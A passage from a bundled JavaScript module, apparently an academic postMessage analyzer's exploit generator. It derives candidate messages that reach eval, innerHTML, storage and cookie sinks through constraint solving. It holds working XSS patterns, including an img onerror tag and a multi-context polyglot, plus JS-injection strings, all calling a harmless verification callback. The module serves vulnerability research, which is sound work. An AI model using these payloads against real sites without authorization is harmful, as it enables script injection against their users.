\"function_name\": \"startsWith\",\n    \"args\": [\n      '(__crawly__(\"' + nonce_2 + '\")/*'\n    ]\n  };\n  let endswith_exploit_2 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */)'\n    ]\n  };\n\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_2);\n  right.ops.push(endswith_exploit_2);\n\n  let exp_2 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_2, exp_2);\n\n  let endswith_exploit_3 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */__crawly__(\"' + nonce_3 + '\")'\n    ]\n  };\n  let startswith_exploit_3 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '/*'\n    ]\n  };\n\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_3);\n  right.ops.push(endswith_exploit_3);\n\n  let exp_3 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_3, exp_3);\n\n  let kameeleon = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  kameeleon.ops.push({\n    type: \"Binary\",\n    op: '===',\n    side: 'left',\n    val: 'Kameleoon=1,__crawly__(\"' + nonce_4 + '\")'\n  });\n\n  exploits.set(nonce_4, kameeleon);\n\n  let startsWithFixObject = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithFixObject.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['.toString(),__crawly__(\"' + nonce_5 + '\")']\n  });\n\n  exploits.set(nonce_5, startsWithFixObject);\n\n  let startsWithAssignement = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithAssignement.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['1;__crawly__(\"' + nonce_6 + '\");']\n  });\n\n  exploits.set(nonce_6, startsWithAssignement);\n\n  let startsWithAssignementWithoutEqual = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithAssignementWithoutEqual.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['=1;__crawly__(\"' + nonce_7 + '\");']\n  });\n\n  exploits.set(nonce_7, startsWithAssignementWithoutEqual);\n\n\n  let endsWithanything = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  endsWithanything.ops.push({\n    type: \"member_function\",\n    function_name: \"startsWith\",\n    args: ['__crawly__(\"' + nonce_8 + '\");//']\n  });\n\n  exploits.set(nonce_8, endsWithanything);\n\n  let wrapped_function = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  wrapped_function.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '(function(){__crawly__(\"' + nonce_9 + '\")})();//'\n    ]\n  });\n  exploits.set(nonce_9, wrapped_function);\n\n  return exploits;\n\n}\n\nfunction getStorageExploits(key_obj, val_obj) {\n  let exploits = new Map();\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n\n  let key_const = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(key_obj);\n  let val_const = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(val_obj);\n\n  key_const.ops.push({\n    \"type\": \"Binary\",\n    \"op\": '===',\n    \"side\": \"left\",\n    \"val\": nonce_1\n  });\n\n  val_const.ops.push({\n    \"type\": \"Binary\",\n    \"op\": '===',\n    \"side\": \"left\",\n    \"val\": nonce_1\n  });\n\n  exploits.set(nonce_1, {\n    \"type\": \"Logical\",\n    \"op\": '&&',\n    \"l_val\": key_const,\n    \"r_val\": val_const\n  });\n\n  return exploits\n}\n\nfunction getHTMLExploits(sinkObject) {\n  let exploits = new Map();\n\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exp1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject)\n  let img_payload = '<img src=\"foo\" onerror=\"__crawly__(`__report_id`)\" onload=\"__crawly__(`__report_id`)\"><textarea>';\n  exp1.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"indexOf\",\n    \"args\": [img_payload.replace(/__report_id/g, nonce_1)],\n  });\n  exp1.ops.push({type: 'Binary', op: '>', side: 'left', val: 0})\n  exploits.set(nonce_1, exp1)\n  let nonce_3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exp3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  let polyglot = \"`'\\\">--!></stYle/</titLe/</teXtarEa/</scRipt/><img/src=foo oNloAd=__crawly__(`__report_id`)//>\\x3e\\n\";\n  exp3.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"indexOf\",\n    \"args\": [polyglot.replace(/__report_id/g, nonce_3)],\n  });\n  exp3.ops.push({type: 'Binary', op: '>', side: 'left', val: 0});\n  exploits.set(nonce_3, exp3);\n\n\n  return exploits\n\n}\n\nfunction getOriginConstraints() {\n  return {\n    type: 'Logical', op: '||', l_val: {\n      \"ops\": [\n        {\n          \"type\": \"ops_on_parent_element\",\n          \"old_identifier\": \"event\",\n          \"old_ops\": []\n        },\n        {\n          \"type\": \"member_function\",\n          \"function_name\": \"substring\",\n          \"args\": [\n            0, 7\n          ]\n        },\n        {\n          \"type\": 'Binary',\n          \"side\": \"left\",\n          \"val\": \"http://\",\n          \"op\": '==='\n        }\n      ],\n      \"identifier\": \"event.origin\"\n    }, r_val: {\n      \"ops\": [\n        {\n          \"type\": \"ops_on_parent_element\",\n          \"old_identifier\": \"event\",\n          \"old_ops\": []\n        },\n        {\n          \"type\": \"member_function\",\n          \"function_name\": \"substring\",\n          \"args\": [\n            0, 8\n          ]\n        },\n        {\n          \"type\": 'Binary',\n          \"side\": \"left\",\n          \"val\": \"https://\",\n          \"op\": '==='\n        }\n      ],\n      \"identifier\": \"event.origin\"\n    }\n  }\n}\n\nfunction getCookieExploits(sinkObject) {\n  let nonce1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exploits = new Map();\n\n\n  let constraints = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  constraints.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [nonce1 + '=' + nonce1 + ';']\n  });\n  exploits.set(nonce1, constraints);\n\n  return exploits\n}\n\nasync function generateExploitForReport(report, handler_id) {\n  console.log('=============');\n  console.log('Starting exploit generation for ', report);\n  let inferred_types = {};\n  try {\n    //inferred_types = inferTypes(report.ev)\n    inferred_types = report.typeInfo;\n  } catch (e) {\n    console.error('Error when infering types', e)\n  }\n  let sink_obj_constraints;\n  switch (SINK_MAPPING[report.sink]) {\n    case 'JS':\n      sink_obj_constraints = getJSExploits(report.sinkObject);\n      break;\n    case 'HTML':\n      sink_obj_constraints = getHTMLExploits(report.sinkObject);\n      break;\n    case 'storage':\n      sink_obj_constraints = getStorageExploits(report.key_obj, report.val_obj);\n      break;\n    case 'cookie':\n      sink_obj_constraints = getCookieExploits(report.sinkObject);\n      break;\n\n    default:\n      throw Error('Sink not yet supported ' + report.sink)\n  }\n\n  let cs = report['constraints'];\n  let constraintId = await window.__reportBaseConstraint(cs, handler_id);\n\n  let origin_constraint = getOriginConstraints();\n  let exploit_candidates = [];\n  let exploitIds = Array.from(sink_obj_constraints.keys());\n  // every candidate consists of the exploit constraints and the constraints for origin, e.g. starts with http etc\n  let candidates = exploitIds.map((exploitId) => [sink_obj_constraints.get(exploitId), origin_constraint]);\n  // solve all candidates at once, such that the base constraints only need to be handled once\n  let results = await window.__trySolveBatchForSat(cs, inferred_types, constraintId, candidates, report['sink']);\n  for (let i = 0; i < exploitIds.length; i++) {\n    let res = results[i];\n    if (res !== undefined && res !== null) {\n      exploit_candidates.push({exploitCandidateId: res[1], exploitId: exploitIds[i], payload_sat: res[0]});\n    }\n  }\n  if (exploit_candidates.length === 0) {\n    return undefined\n  }\n  let messages = [];\n  for (let entry of exploit_candidates) {\n    let mess1 = generateObjectFromAssignements(entry['payload_sat']['assignements'])['event'];\n    let mess2 = generateObjectFromAssignements(entry['payload_sat']['assignements'], undefined, false)['event'];\n    messages.push({\n      exploitId: entry['exploitId'],\n      exploitCandidateId: entry['exploitCandidateId'],\n      message: adjustForTypes(mess1, entry['payload_sat']['types'])\n    });\n    messages.push({\n      exploitId: entry['exploitId'],\n      exploitCandidateId: entry['exploitCandidateId'],\n      message: adjustForTypes(mess2, entry['payload_sat']['types'])\n    });\n\n  }\n  return {\n    candidates: messages,\n    sink: report.sink\n  };\n}\n\nfunction adjustForTypes(obj, types) {\n  for (let key of Object.keys(types)) {\n    if (types[key] !== 'JSON') {\n      continue;\n    }\n    let splitted = key.split('.');\n    let last = splitted.slice(-1);\n    let accessors = splitted.slice(0, splitted.length - 1);\n    let cur_obj = obj;\n    for (let accessor of accessors) {\n      if (accessor.startsWith('__elem__')) {\n        let num = parseInt(accessor.slice(8));\n        if (!Array.isArray(cur_obj)) {\n        }\n        accessor = num;\n      }\n      if (cur_obj[accessor] === undefined) {\n        break;\n      }\n      cur_obj = cur_obj[accessor];\n    }\n    cur_obj[last] = JSON.stringify(cur_obj[last])\n  }\n  return obj\n}\n\nfunction generateObjectFromAssignements(assignement, obj = undefined, dont_use_empty = true) {\n  if (obj === undefined) {\n    obj = {};\n  }\n  for (let key of Object.keys(assignement)) {\n    if (dont_use_empty && assignement[key] === '') {\n      continue\n    }\n    if (typeof assignement[key] === 'string') {\n      assignement[key] = assignement[key].replace(/\\\\x([0-9A-F]{2})/ig, function () {\n        return String.fromCharCode(parseInt(arguments[1], 16));\n      });\n    }\n    let splitted = key.split('.');\n    let last = splitted.slice(-1);\n    let accessors = splitted.slice(0, splitted.length - 1);\n    let cur_obj = obj;\n    for (let accessor of accessors) {\n      if (accessor.startsWith('__elem__')) {\n        let num = parseInt(accessor.slice(8));\n        if (!Array.isArray(cur_obj)) {\n        }\n        accessor = num;\n      }\n      if (cur_obj[accessor] === undefined) {\n        cur_obj[accessor] = {};\n      } else {\n        addPropToObj(cur_obj, accessor);\n      }\n      cur_obj = cur_obj[accessor];\n    }\n    if (cur_obj[last[0]] === undefined)\n      cur_obj[last[0]] = assignement[key];\n    else {\n      // this case only happens when we have an assignement for a parent object which is however already an object thus we cannot do it\n      cur_obj[last[0]]['__hope_for_the_best'] = assignement[key]\n    }\n  }\n  resolveSubstituteVals(obj, obj);\n  return obj;\n}\n\nfunction resolveSubstituteVals(obj, g) {\n  if (Array.isArray(obj)) {\n    for (let i = 0; i < obj.length; i++) {\n      let elem = resolveSubstituteVals(obj[i], g);\n      if (elem) {\n        obj[i] = elem;\n      }\n    }\n  } else if (typeof obj === 'object') {\n    for (let key of Object.keys(obj)) {\n      let elem = resolveSubstituteVals(obj[key], g);\n      if (elem) {\n        obj[key] = elem\n      }\n    }\n  } else if (typeof obj === 'string' && obj.startsWith('__substitute_values_')) {\n    return g[obj];\n  }\n}\n\n\n//# sourceURL=[module]\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozLCJmaWxlIjoiLi9FeHBsb2l0R2VuZXJhdG9yLmpzLmpzIiwic291cmNlcyI6WyJ3ZWJwYWNrOi8vUE1BbmFseXplci8uL0V4cGxvaXRHZW5lcmF0b3IuanM/MzhmNiJdLCJzb3VyY2VzQ29udGVudCI6WyIvKlxuQ29weXJpZ2h0IChDKSAyMDIwICBNYXJpdXMgU3RlZmZlbnMsIENJU1BBXG5cblRoaXMgcHJvZ3JhbSBpcyBmcmVlIHNvZnR3YXJlOiB5b3UgY2FuIHJlZGlzdHJpYnV0ZSBpdCBhbmQvb3IgbW9kaWZ5XG5pdCB1bmRlciB0aGUgdGVybXMgb2YgdGhlIEdOVSBBZmZlcm8gR2VuZXJhbCBQdWJsaWMgTGljZW5zZSBhcyBwdWJsaXNoZWQgYnlcbnRoZSBGcmVlIFNvZnR3YXJlIEZvdW5kYXRpb24sIGVpdGhlciB2ZXJzaW9uIDMgb2YgdGhlIExpY2Vuc2UsIG9yXG4oYXQgeW91ciBvcHRpb24pIGFueSBsYXRlciB2ZXJzaW9uLlxuXG5UaGlzIHByb2dyYW0gaXMgZGlzdHJpYnV0ZWQgaW4gdGhlIGhvcGUgdGhhdCBpdCB3aWxsIGJlIHVzZWZ1bCxcbmJ1dCBXSVRIT1VUIEFOWSBXQVJSQU5UWTsgd2l0aG91dCBldmVuIHRoZSBpbXBsaWVkIHdhcnJhbnR5IG9mXG5NRVJDSEFOVEFCSUxJVFkgb3IgRklUTkVTUyBGT1IgQSBQQVJUSUNVTEFSIFBVUlBPU0UuICBTZWUgdGhlXG5HTlUgQWZmZXJvIEdlbmVyYWwgUHVibGljIExpY2Vuc2UgZm9yIG1vcmUgZGV0YWlscy5cblxuWW91IHNob3VsZCBoYXZlIHJlY2VpdmVkIGEgY29weSBvZiB0aGUgR05VIEFmZmVybyBHZW5lcmFsIFB1YmxpYyBMaWNlbnNlXG5hbG9uZyB3aXRoIHRoaXMgcHJvZ3JhbS4gIElmIG5vdCwgc2VlIDxodHRwOi8vd3d3LmdudS5vcmcvbGljZW5zZXMvPi5cbiovXG5cbmltcG9ydCB7ZGVlcENsb25lLCByYW5kb21TdHJpbmd9IGZyb20gXCIuL3V0aWxcIjtcblxuY29uc3QgU0lOS19NQVBQSU5HID0ge1xuICAnZXZhbCc6ICdKUycsXG4gICdkb2N1bWVudC53cml0ZSc6ICdIVE1MJyxcbiAgJ2RvY3VtZW50LndyaXRlbG4nOiAnSFRNTCcsXG4gICdpbm5lckhUTUwnOiAnSFRNTCcsXG4gICdqcXVlcnknOiAnSFRNTCcsXG4gICdzY3JpcHRUZXh0Q29udGVudCc6ICdKUycsXG4gICdpbnNlcnRBZGphY2VudEhUTUwnOiAnSFRNTCcsXG4gICdwb3N0TWVzc2FnZSc6ICdQTScsXG4gICdzdG9yYWdlJzogJ3N0b3JhZ2UnLFxuICAnY29va2llJzogJ2Nvb2tpZScsXG5cbn07XG5cbmZ1bmN0aW9uIGFkZFByb3BUb09iaihvYmosIGFjYykge1xuICBpZiAodHlwZW9mIG9ialthY2NdID09PSAnb2JqZWN0Jykge1xuICAgIC8vIGFsbCBnb29kIHdlIGhhdmUgbm90aGlnIHRvIHdvcnJ5IGJvdXQgYW5kIGNhbiBqdXN0IGFkZCBhbm90aGVyIG9uZSBpZiBuZWNlc3NhcnlcbiAgfSBlbHNlIHtcbiAgICAvLyB3ZWxsIHdlIGhhdmUgY29uc3RyYWludCBzb2x2ZWQgdGhhdCBwYXJ0cyBvZiB0aGUgdGhpbmcgbmVlZHMgdG8gYmUgdGhhdCBzcGVjaWZpYyBzdHJpbmdcbiAgICAvLyBzdWJzdGl0dXRlIHRoZSBzdHJpbmcgdG8gYSByYW5kb20ga2V5IGFuZCBob3BlIGZvciB0aGUgYmVzdFxuICAgIGxldCBjdXJfdmFsdWUgPSBvYmpbYWNjXTtcbiAgICBvYmpbYWNjXSA9IHt9O1xuICAgIG9ialthY2NdWydfX2hvcGVfZm9yX3RoZV9iZXN0J10gPSBjdXJfdmFsdWU7XG4gIH1cbn1cblxuZnVuY3Rpb24gZ2V0SlNFeHBsb2l0cyhzaW5rT2JqZWN0KSB7XG4gIGxldCBsZWZ0LCByaWdodDtcbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzIgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzMgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzQgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzUgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzYgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzcgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzggPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzkgPSByYW5kb21TdHJpbmcoKTtcblxuXG4gIGxldCBleHBsb2l0cyA9IG5ldyBNYXAoKTtcbiAgbGV0IHN0YXJ0c3dpdGhfZXhwbG9pdF8xID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcInN0YXJ0c1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJ19fY3Jhd2x5X18oXCInICsgbm9uY2VfMSArICdcIikvKidcbiAgICBdXG4gIH07XG4gIGxldCBlbmRzd2l0aF9leHBsb2l0XzEgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwiZW5kc1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyAqLydcbiAgICBdXG4gIH07XG4gIGxlZnQgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHJpZ2h0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBsZWZ0Lm9wcy5wdXNoKHN0YXJ0c3dpdGhfZXhwbG9pdF8xKTtcbiAgcmlnaHQub3BzLnB1c2goZW5kc3dpdGhfZXhwbG9pdF8xKTtcblxuICBsZXQgZXhwXzEgPSB7dHlwZTogJ0xvZ2ljYWwnLCBvcDogJyYmJywgbF92YWw6IGxlZnQsIHJfdmFsOiByaWdodH07XG4gIGV4cGxvaXRzLnNldChub25jZV8xLCBleHBfMSk7XG5cbiAgbGV0IHN0YXJ0c3dpdGhfZXhwbG9pdF8yID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcInN0YXJ0c1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyhfX2NyYXdseV9fKFwiJyArIG5vbmNlXzIgKyAnXCIpLyonXG4gICAgXVxuICB9O1xuICBsZXQgZW5kc3dpdGhfZXhwbG9pdF8yID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcImVuZHNXaXRoXCIsXG4gICAgXCJhcmdzXCI6IFtcbiAgICAgICcgKi8pJ1xuICAgIF1cbiAgfTtcblxuICBsZWZ0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICByaWdodCA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAgbGVmdC5vcHMucHVzaChzdGFydHN3aXRoX2V4cGxvaXRfMik7XG4gIHJpZ2h0Lm9wcy5wdXNoKGVuZHN3aXRoX2V4cGxvaXRfMik7XG5cbiAgbGV0IGV4cF8yID0ge3R5cGU6ICdMb2dpY2FsJywgb3A6ICcmJicsIGxfdmFsOiBsZWZ0LCByX3ZhbDogcmlnaHR9O1xuICBleHBsb2l0cy5zZXQobm9uY2VfMiwgZXhwXzIpO1xuXG4gIGxldCBlbmRzd2l0aF9leHBsb2l0XzMgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwiZW5kc1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyAqL19fY3Jhd2x5X18oXCInICsgbm9uY2VfMyArICdcIiknXG4gICAgXVxuICB9O1xuICBsZXQgc3RhcnRzd2l0aF9leHBsb2l0XzMgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3RhcnRzV2l0aFwiLFxuICAgIFwiYXJnc1wiOiBbXG4gICAgICAnLyonXG4gICAgXVxuICB9O1xuXG4gIGxlZnQgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHJpZ2h0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBsZWZ0Lm9wcy5wdXNoKHN0YXJ0c3dpdGhfZXhwbG9pdF8zKTtcbiAgcmlnaHQub3BzLnB1c2goZW5kc3dpdGhfZXhwbG9pdF8zKTtcblxuICBsZXQgZXhwXzMgPSB7dHlwZTogJ0xvZ2ljYWwnLCBvcDogJyYmJywgbF92YWw6IGxlZnQsIHJfdmFsOiByaWdodH07XG4gIGV4cGxvaXRzLnNldChub25jZV8zLCBleHBfMyk7XG5cbiAgbGV0IGthbWVlbGVvbiA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAga2FtZWVsZW9uLm9wcy5wdXNoKHtcbiAgICB0eXBlOiBcIkJpbmFyeVwiLFxuICAgIG9wOiAnPT09JyxcbiAgICBzaWRlOiAnbGVmdCcsXG4gICAgdmFsOiAnS2FtZWxlb29uPTEsX19jcmF3bHlfXyhcIicgKyBub25jZV80ICsgJ1wiKSdcbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzQsIGthbWVlbGVvbik7XG5cbiAgbGV0IHN0YXJ0c1dpdGhGaXhPYmplY3QgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHN0YXJ0c1dpdGhGaXhPYmplY3Qub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJlbmRzV2l0aFwiLFxuICAgIGFyZ3M6IFsnLnRvU3RyaW5nKCksX19jcmF3bHlfXyhcIicgKyBub25jZV81ICsgJ1wiKSddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV81LCBzdGFydHNXaXRoRml4T2JqZWN0KTtcblxuICBsZXQgc3RhcnRzV2l0aEFzc2lnbmVtZW50ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBzdGFydHNXaXRoQXNzaWduZW1lbnQub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJlbmRzV2l0aFwiLFxuICAgIGFyZ3M6IFsnMTtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzYgKyAnXCIpOyddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV82LCBzdGFydHNXaXRoQXNzaWduZW1lbnQpO1xuXG4gIGxldCBzdGFydHNXaXRoQXNzaWduZW1lbnRXaXRob3V0RXF1YWwgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHN0YXJ0c1dpdGhBc3NpZ25lbWVudFdpdGhvdXRFcXVhbC5vcHMucHVzaCh7XG4gICAgdHlwZTogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBmdW5jdGlvbl9uYW1lOiBcImVuZHNXaXRoXCIsXG4gICAgYXJnczogWyc9MTtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzcgKyAnXCIpOyddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV83LCBzdGFydHNXaXRoQXNzaWduZW1lbnRXaXRob3V0RXF1YWwpO1xuXG5cbiAgbGV0IGVuZHNXaXRoYW55dGhpbmcgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIGVuZHNXaXRoYW55dGhpbmcub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJzdGFydHNXaXRoXCIsXG4gICAgYXJnczogWydfX2NyYXdseV9fKFwiJyArIG5vbmNlXzggKyAnXCIpOy8vJ11cbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzgsIGVuZHNXaXRoYW55dGhpbmcpO1xuXG4gIGxldCB3cmFwcGVkX2Z1bmN0aW9uID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICB3cmFwcGVkX2Z1bmN0aW9uLm9wcy5wdXNoKHtcbiAgICBcInR5cGVcIjogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBcImZ1bmN0aW9uX25hbWVcIjogXCJzdGFydHNXaXRoXCIsXG4gICAgXCJhcmdzXCI6IFtcbiAgICAgICcoZnVuY3Rpb24oKXtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzkgKyAnXCIpfSkoKTsvLydcbiAgICBdXG4gIH0pO1xuICBleHBsb2l0cy5zZXQobm9uY2VfOSwgd3JhcHBlZF9mdW5jdGlvbik7XG5cbiAgcmV0dXJuIGV4cGxvaXRzO1xuXG59XG5cbmZ1bmN0aW9uIGdldFN0b3JhZ2VFeHBsb2l0cyhrZXlfb2JqLCB2YWxfb2JqKSB7XG4gIGxldCBleHBsb2l0cyA9IG5ldyBNYXAoKTtcbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcblxuICBsZXQga2V5X2NvbnN0ID0gZGVlcENsb25lKGtleV9vYmopO1xuICBsZXQgdmFsX2NvbnN0ID0gZGVlcENsb25lKHZhbF9vYmopO1xuXG4gIGtleV9jb25zdC5vcHMucHVzaCh7XG4gICAgXCJ0eXBlXCI6IFwiQmluYXJ5XCIsXG4gICAgXCJvcFwiOiAnPT09JyxcbiAgICBcInNpZGVcIjogXCJsZWZ0XCIsXG4gICAgXCJ2YWxcIjogbm9uY2VfMVxuICB9KTtcblxuICB2YWxfY29uc3Qub3BzLnB1c2goe1xuICAgIFwidHlwZVwiOiBcIkJpbmFyeVwiLFxuICAgIFwib3BcIjogJz09PScsXG4gICAgXCJzaWRlXCI6IFwibGVmdFwiLFxuICAgIFwidmFsXCI6IG5vbmNlXzFcbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzEsIHtcbiAgICBcInR5cGVcIjogXCJMb2dpY2FsXCIsXG4gICAgXCJvcFwiOiAnJiYnLFxuICAgIFwibF92YWxcIjoga2V5X2NvbnN0LFxuICAgIFwicl92YWxcIjogdmFsX2NvbnN0XG4gIH0pO1xuXG4gIHJldHVybiBleHBsb2l0c1xufVxuXG5mdW5jdGlvbiBnZXRIVE1MRXhwbG9pdHMoc2lua09iamVjdCkge1xuICBsZXQgZXhwbG9pdHMgPSBuZXcgTWFwKCk7XG5cbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IGV4cDEgPSBkZWVwQ2xvbmUoc2lua09iamVjdClcbiAgbGV0IGltZ19wYXlsb2FkID0gJzxpbWcgc3JjPVwiZm9vXCIgb25lcnJvcj1cIl9fY3Jhd2x5X18oYF9fcmVwb3J0X2lkYClcIiBvbmxvYWQ9XCJfX2NyYXdseV9fKGBfX3JlcG9ydF9pZGApXCI+PHRleHRhcmVhPic7XG4gIGV4cDEub3BzLnB1c2goe1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcImluZGV4T2ZcIixcbiAgICBcImFyZ3NcIjogW2ltZ19wYXlsb2FkLnJlcGxhY2UoL19fcmVwb3J0X2lkL2csIG5vbmNlXzEpXSxcbiAgfSk7XG4gIGV4cDEub3BzLnB1c2goe3R5cGU6ICdCaW5hcnknLCBvcDogJz4nLCBzaWRlOiAnbGVmdCcsIHZhbDogMH0pXG4gIGV4cGxvaXRzLnNldChub25jZV8xLCBleHAxKVxuICBsZXQgbm9uY2VfMyA9IHJhbmRvbVN0cmluZygpO1xuICBsZXQgZXhwMyA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAgbGV0IHBvbHlnbG90ID0gXCJgJ1xcXCI+LS0hPjwvc3RZbGUvPC90aXRMZS88L3RlWHRhckVhLzwvc2NSaXB0Lz48aW1nL3NyYz1mb28gb05sb0FkPV9fY3Jhd2x5X18oYF9fcmVwb3J0X2lkYCkvLz5cXHgzZVxcblwiO1xuICBleHAzLm9wcy5wdXNoKHtcbiAgICBcInR5cGVcIjogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBcImZ1bmN0aW9uX25hbWVcIjogXCJpbmRleE9mXCIsXG4gICAgXCJhcmdzXCI6IFtwb2x5Z2xvdC5yZXBsYWNlKC9fX3JlcG9ydF9pZC9nLCBub25jZV8zKV0sXG4gIH0pO1xuICBleHAzLm9wcy5wdXNoKHt0eXBlOiAnQmluYXJ5Jywgb3A6ICc+Jywgc2lkZTogJ2xlZnQnLCB2YWw6IDB9KTtcbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzMsIGV4cDMpO1xuXG5cbiAgcmV0dXJuIGV4cGxvaXRzXG5cbn1cblxuZnVuY3Rpb24gZ2V0T3JpZ2luQ29uc3RyYWludHMoKSB7XG4gIHJldHVybiB7XG4gICAgdHlwZTogJ0xvZ2ljYWwnLCBvcDogJ3x8JywgbF92YWw6IHtcbiAgICAgIFwib3BzXCI6IFtcbiAgICAgICAge1xuICAgICAgICAgIFwidHlwZVwiOiBcIm9wc19vbl9wYXJlbnRfZWxlbWVudFwiLFx